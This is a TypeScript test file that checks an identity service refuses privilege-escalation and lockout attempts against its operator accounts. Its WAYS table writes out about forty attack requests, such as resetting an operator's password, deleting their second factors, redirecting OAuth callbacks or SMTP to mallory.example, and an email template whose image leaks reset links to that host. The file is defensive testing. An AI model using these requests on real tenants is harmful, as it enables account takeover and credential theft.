/**
 * Attack: somebody with a right that was given for something else becomes an operator, or shuts one out: by an invitation with the role of
 * owner, an operator's password, the connection that signs operators in, the console's callback.
 */
import { generateKeyPairSync } from 'node:crypto';
import { beforeAll, describe, expect, test } from 'vitest';
import type { Json } from '../support/instance.js';
import { type CallAs, createMachine } from '../support/machines.js';
import { createOperatorRig, type OperatorRig, type SignedIn } from '../support/operators.js';
import { useStage } from '../support/stage.js';

const stage = useStage();
const MESSAGE = 'This gives or takes power over the tenant';

let rig: OperatorRig;
let owner: SignedIn;
let support: SignedIn;
/** A machine with every scope but one that has nothing to do with all this. */
let machine: CallAs;
/** Somebody's account, that no operator has to do with. */
let twin: string;
/** The id of a second factor of the owner. */
let enrollment: string;
/** Has an account where operators have theirs, and is none. */
let former: string;
beforeAll(async () => {
  rig = await createOperatorRig(stage.instance);
  owner = await rig.join('olga@vestibule.example');
  support = await rig.join('sue@vestibule.example', 'support');
  former = (await rig.join('fay@vestibule.example')).userId;
  await stage.instance.api('DELETE', `${organization()}/members`, { members: [former] });
  await stage.instance.api('POST', `/users/${owner.userId}/authentication-methods`, {
    ...{ type: 'totp', totp_secret: 'JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP' },
  });
  const enrollments = await stage.instance.api<Json[]>('GET', `/users/${owner.userId}/enrollments`);
  enrollment = String(enrollments[0]?.id);
  twin = await stage.cast.createUser('twin@acme.example');
  // Olga has a password of customers, too, and is at Acme, bound under the issuer that it had before.
  await stage.instance.api('POST', `/users/${encodeURIComponent(owner.userId)}/identities`, {
    ...{ provider: 'oidc', connection_id: stage.cast.acme.connectionId, user_id: 'olga-at-acme' },
  });
  const second = await stage.cast.createUser('olga@customers.example');
  await stage.instance.api('POST', `/users/${encodeURIComponent(owner.userId)}/identities`, {
    ...{ provider: 'auth0', user_id: second },
  });
  await stage.instance.database.pool.query(
    "update identities set status = 'bound', issuer = $1 where subject = 'olga-at-acme'",
    [FORMER_ISSUER],
  );
  const document = (await (await fetch(`${stage.instance.origin}/api/v2/openapi.json`)).json()) as Json;
  const { scopes } = (
    document as {
      components: { securitySchemes: { management: { flows: { clientCredentials: { scopes: object } } } } };
    }
  ).components.securitySchemes.management.flows.clientCredentials;
  const rest = Object.keys(scopes).filter((scope) => scope !== 'read:stats');
  machine = (await createMachine(stage.instance, 'Nearly', rest)).call;
});

const organization = () => `/organizations/${rig.rows.organizationId}`;
const invitation = () => ({
  inviter: { name: 'Mallory' },
  invitee: { email: 'mallory@elsewhere.example' },
  client_id: rig.rows.clientId,
  roles: [rig.rows.roleIds.owner],
  send_invitation_email: false,
});

const PEM = String(
  generateKeyPairSync('rsa', { modulusLength: 2048 }).publicKey.export({ type: 'spki', format: 'pem' }),
);

const FORMER_ISSUER = 'https://former.acme.example';

type Way = () => readonly [method: string, path: string, body?: unknown];

/** Every way that is known. */
const WAYS: Readonly<Record<string, Way>> = {
  'invite an owner': () => ['POST', `${organization()}/invitations`, invitation()],
  'have an application of their own lead operators in': () => [
    'POST',
    '/client-grants',
    {
      ...{ client_id: stage.cast.client.id, audience: `${stage.instance.origin}/api/v2/`, scope: ['read:users'] },
      subject_type: 'user',
    },
  ],
  'read the link of an invitation': () => ['GET', `${organization()}/invitations`],
  'add a member': () => ['POST', `${organization()}/members`, { members: [owner.userId] }],
  'remove an operator': () => ['DELETE', `${organization()}/members`, { members: [support.userId] }],
  'give the role': () => [
    'POST',
    `${organization()}/members/${support.userId}/roles`,
    { roles: [rig.rows.roleIds.owner] },
  ],
  'set a password': () => ['PATCH', `/users/${owner.userId}`, { password: 'Mallorys-own-7-choice' }],
  'set an address': () => ['PATCH', `/users/${owner.userId}`, { email: 'mallory@elsewhere.example' }],
  'take the second factors of an operator': () => ['DELETE', `/users/${owner.userId}/authentication-methods`],
  'take them the older way': () => ['DELETE', `/users/${owner.userId}/authenticators`],
  'take one by its own id': () => ['DELETE', `/guardian/enrollments/${enrollment}`],
  'give an operator a factor of their own': () => [
    'POST',
    `/users/${owner.userId}/authentication-methods`,
    { type: 'totp', totp_secret: 'JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP' },
  ],
  'get a recovery code of an operator': () => ['POST', `/users/${owner.userId}/recovery-code-regeneration`],
  'block an operator': () => ['PATCH', `/users/${owner.userId}`, { blocked: true }],
  'delete an operator': () => ['DELETE', `/users/${owner.userId}`],
  'get a link that sets up a factor': () => ['POST', '/guardian/enrollments/ticket', { user_id: owner.userId }],
  'get a link for a new password': () => ['POST', '/tickets/password-change', { user_id: owner.userId }],
  'get it by the address': () => [
    'POST',
    '/tickets/password-change',
    { email: 'olga@vestibule.example', connection_id: rig.rows.connectionId },
  ],
  'get it by the address of another password': () => [
    'POST',
    '/tickets/password-change',
    { email: 'olga@customers.example', connection_id: stage.cast.databaseId },
  ],
  'link another account': () => [
    'POST',
    `/users/${stage.cast.acme.userIdOf('idp-sam')}/identities`,
    { provider: 'auth0', user_id: owner.userId },
  ],
  'link another account, by the part after the bar': () => [
    'POST',
    `/users/${twin}/identities`,
    { provider: 'auth0', user_id: owner.userId.replace('auth0|', '') },
  ],
  'take an account in with a seat': () => [
    'POST',
    `/users/${twin}/identities/oidc/idp-twin/move`,
    { subject: 'idp-twin-2', absorb_user_id: owner.userId },
  ],
  'expect an identity for an operator': () => [
    'POST',
    `/organizations/${stage.cast.acme.id}/expected-identities`,
    { connection_id: stage.cast.acme.connectionId, identities: [{ user_id: owner.userId, subject: 'mallory' }] },
  ],
  'expect an operator under the issuer that a company has now': () => [
    'POST',
    `/connections/${stage.cast.acme.connectionId}/former-identities`,
    { former_issuer: FORMER_ISSUER, expect_by: 'subject', subjects: { 'olga-at-acme': 'mallory' } },
  ],
  'open an account where operators have theirs': () => [
    'POST',
    '/users',
    {
      connection: 'vestibule-operators',
      email: 'mallory@elsewhere.example',
      password: 'Mallorys-own-7-choice',
      email_verified: true,
    },
  ],
  'set the password of one who is to be invited': () => [
    'PATCH',
    `/users/${former}`,
    { password: 'Mallorys-own-7-choice' },
  ],
  'change the connection': () => ['PATCH', `/connections/${rig.rows.connectionId}`, { display_name: 'Mine' }],
  'enable a connection of their own': () => [
    'POST',
    `${organization()}/enabled_connections`,
    { connection_id: stage.cast.acme.connectionId, assign_membership_on_login: true },
  ],
  'have an organization of their own sign in by it': () => [
    'POST',
    '/organizations',
    { name: 'mallorys', enabled_connections: [{ connection_id: rig.rows.connectionId, is_signup_enabled: true }] },
  ],
  'have a customer sign in by it, by the other name of the parameter': () => [
    'PATCH',
    `/organizations/${stage.cast.acme.id}/enabled_connections/${rig.rows.connectionId}`,
    { show_as_button: true },
  ],
  'give the console a secret': () => ['POST', `/clients/${rig.rows.clientId}/rotate-secret`],
  'give the console a key of their own': () => [
    'POST',
    `/clients/${rig.rows.clientId}/credentials`,
    { credential_type: 'public_key', name: 'Mine', pem: PEM },
  ],
  'give the console another grant type': () => [
    'PATCH',
    `/clients/${rig.rows.clientId}`,
    { grant_types: ['authorization_code', 'refresh_token', 'client_credentials'] },
  ],
  'make the console another kind of client': () => [
    'PATCH',
    `/clients/${rig.rows.clientId}`,
    { token_endpoint_auth_method: 'client_secret_post', app_type: 'regular_web' },
  ],
  'have the console used without an organization': () => [
    'PATCH',
    `/clients/${rig.rows.clientId}`,
    { organization_usage: 'deny' },
  ],
  'have invitations led elsewhere': () => [
    'PATCH',
    `/clients/${rig.rows.clientId}`,
    { initiate_login_uri: 'https://mallory.example/login' },
  ],
  'have a customer set the connection up': () => [
    'POST',
    '/self-service-profiles/ssp_AAAAAAAAAAAAAAAAAAAAAA/sso-ticket',
    { connection_id: rig.rows.connectionId },
  ],
  'sign people in over a connection of the operators': () => [
    'PATCH',
    `/connections/${rig.rows.connectionId}/clients`,
    [{ client_id: stage.cast.client.id, status: true }],
  ],
  'have the mails of operators sent by their own server': () => [
    'POST',
    '/emails/provider',
    { name: 'smtp', credentials: { smtp_host: 'mail.mallory.example', smtp_port: 25 } },
  ],
  'have a picture in the mails of operators tell the link': () => [
    'POST',
    '/email-templates',
    {
      template: 'reset_email',
      body: '<p>{{ url }}</p><img src="https://mallory.example/{{ url }}">',
      from: 'olga@vestibule.example',
      subject: 'Your link',
      syntax: 'liquid',
      enabled: true,
    },
  ],
  'have the code sent elsewhere': () => [
    'PATCH',
    `/clients/${rig.rows.clientId}`,
    { callbacks: ['https://mallory.example/callback'] },
  ],
};

describe.each(Object.entries(WAYS))('%s', (_name, way) => {
  test('is refused to a machine that lacks a scope, and writes nothing', async () => {
    const before = await stage.instance.snapshot();
    const { status, body } = await machine(...way());
    expect([status, String(body?.message)]).toEqual([403, expect.stringContaining(MESSAGE)]);
    expect(await stage.instance.snapshot()).toEqual(before);
  });

  test('is refused to support', async () => {
    const { status } = await support.call(...way());
    expect(status).toBe(403);
  });
});

test('support invites, blocks, lets in again and resets factors where no operator is concerned, and sets no password', async () => {
  const { acme, client } = stage.cast;
  const userId = await stage.cast.createMember('dana@acme.example');
  const body = { ...invitation(), client_id: client.id, roles: undefined };
  expect((await support.call('POST', `/organizations/${acme.id}/invitations`, body)).status).toBe(201);
  for (const blocked of [true, false])
    expect((await support.call('PATCH', `/users/${userId}`, { blocked })).status).toBe(200);
  expect((await support.call('DELETE', `/users/${userId}/authentication-methods`)).status).toBe(204);
  expect((await support.call('PATCH', `/users/${userId}`, { password: 'Another-horse-9-battery' })).status).toBe(403);
});

test('what operators sign in with stays, whoever asks', async () => {
  const { rows } = rig;
  const permission = {
    permissions: [{ resource_server_identifier: `${stage.instance.origin}/api/v2/`, permission_name: 'read:users' }],
  };
  const { body: grants } = await owner.call('GET', `/client-grants?client_id=${rows.clientId}`);
  const grant = (grants as Json[])[0]?.id;
  const tries = [
    ['DELETE', organization()],
    ['DELETE', `/connections/${rows.connectionId}`],
    ['DELETE', `/clients/${rows.clientId}`],
    ['DELETE', `/client-grants/${grant}`],
    ['PATCH', `/client-grants/${grant}`, { scope: [] }],
    ...Object.values(rows.roleIds).flatMap((id) => [
      ['PATCH', `/roles/${id}`, { name: 'Other' }],
      ['DELETE', `/roles/${id}`],
      ['POST', `/roles/${id}/permissions`, permission],
      ['DELETE', `/roles/${id}/permissions`, permission],
    ]),
  ] as const;
  for (const [method, path, body] of tries) {
    const answer = await owner.call(String(method), String(path), body);
    expect([answer.status, answer.body?.message], `${method} ${path}`).toEqual([
      400,
      expect.stringContaining('belongs to the operators'),
    ]);
  }
});

test('the console takes no change that would shut operators out, whoever asks, and every other one', async () => {
  const path = `/clients/${rig.rows.clientId}`;
  const { body: before } = await owner.call('GET', path);
  for (const body of [
    { callbacks: [] },
    { callbacks: ['https://elsewhere.example/'] },
    { web_origins: [] },
    { allowed_logout_urls: [] },
    { grant_types: ['authorization_code'] },
    { grant_types: ['client_credentials'] },
    { token_endpoint_auth_method: 'client_secret_post' },
    { organization_usage: 'deny' },
    { organization_usage: 'allow' },
    { initiate_login_uri: 'https://elsewhere.example/' },
    { jwt_configuration: { lifetime_in_seconds: 1 } },
  ]) {
    const { status, body: answer } = await owner.call('PATCH', path, body);
    expect([status, answer.message], JSON.stringify(body)).toEqual([
      400,
      expect.stringContaining('This is the console'),
    ]);
  }
  expect((await owner.call('GET', path)).body).toEqual(before);
  const more = { description: 'Ours', callbacks: [...before.callbacks, 'https://second.example/console'] };
  expect(await owner.call('PATCH', path, more)).toMatchObject({ status: 200, body: more });
  await owner.call('PATCH', path, { callbacks: before.callbacks });
});

test('tools that make a tenant equal to a file see none of it', async () => {
  const { rows } = rig;
  const seen = JSON.stringify(
    await Promise.all(
      [
        '/organizations?per_page=100',
        '/roles?per_page=100',
        '/connections?per_page=100',
        '/clients?per_page=100',
        '/client-grants?per_page=100',
      ].map(async (path) => (await owner.call('GET', path)).body),
    ),
  );
  for (const id of [rows.organizationId, rows.connectionId, rows.clientId, ...Object.values(rows.roleIds)])
    expect(seen).not.toContain(id);
});
